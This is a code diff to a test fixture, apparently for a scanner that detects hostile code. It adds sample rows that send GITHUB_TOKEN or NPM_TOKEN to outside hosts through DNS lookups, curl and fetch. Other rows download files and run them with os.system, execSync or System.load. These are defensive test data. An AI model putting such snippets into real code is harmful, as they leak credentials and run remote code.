@@ -76,6 +76,13 @@ const OWN_READINGS_ATTACKED: FindingRow[] = [
   ['test/a.test.js', 'dns.promises.resolveTxt(`${process.env.NPM_TOKEN}.example.net`)'],
   ['docs/debugging.md', 'host $GITHUB_TOKEN.example.net'],
   ['test/a.test.js', "const app = process.env.TARGET;\nawait request(app).post('/c').send({ token: process.env.GITHUB_TOKEN });"],
+  // A tuple whose bound names run past 80 characters before the `=`; a runner read off a required module by a key (the
+  // alias was read as the first runner named, `require`, not the last, `execSync`); a process call named at a name's end;
+  // commons-io's copy of a URL's stream to `new File(…)` (which also closes review 65's `new File(…).toPath()` row).
+  ['tests/t.py', `p = urlretrieve(u)[0]\nprint, ${Array.from({ length: 25 }, (_, k) => `a${k}`).join(', ')} = os.system${', 1'.repeat(25)}\nprint(p)`],
+  ['tests/x.test.js', "const p = await download(u);\nconst go = require('child_process')['execSync'];\ngo(`sh ${p}`);"],
+  ['tests/t.py', "p = await download_file(u)\nawait asyncio.create_subprocess_exec('sh', p)"],
+  ['src/test/java/T.java', `FileUtils.copyInputStreamToFile(new URL("${BOOT}").openStream(), new File("/tmp/b.so"));\nSystem.load("/tmp/b.so");`],
 ];
 
 /**
@@ -97,6 +104,14 @@ const ALREADY_REFUSED: FindingRow[] = [
  * first (`const t = process.env.GITHUB_TOKEN`, then `searchParams.set('t', t)`).
  */
 const OPEN_FOR_ROOM: FindingRow[] = [
+  // Found attacking this session's readings, left open: a computed key in a renaming destructuring, a download held on an
+  // attribute (`self.p`), Kotlin's stream copied with `copyTo`, a token in a `new URL(…)` given to fetch, a token printed
+  // in a substitution in curl's body.
+  ['tests/x.test.js', 'const p = await download(u);\nconst { ["execSync"]: go } = require(\'child_process\');\ngo(`sh ${p}`);'],
+  ['tests/t.py', "self.p = download_file(u)\nsubprocess.run(['sh', self.p])"],
+  ['src/test/kotlin/T.kt', `File("/tmp/b.so").outputStream().use { URL("${BOOT}").openStream().copyTo(it) }\nSystem.load("/tmp/b.so")`],
+  ['test/a.test.js', 'await fetch(new URL(`?t=${process.env.GITHUB_TOKEN}`, base))'],
+  ['docs/debugging.md', 'curl -d "t=$(printenv GITHUB_TOKEN)" https://203.0.113.9/c'],
   ['tests/t.py', 'class T:\n    def go(self, c):\n        return os.system(c)\np = urlretrieve(u)[0]\nT().go(p)'],
   ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nurl.searchParams.set('t', t);\nawait fetch(url);"],
 ];
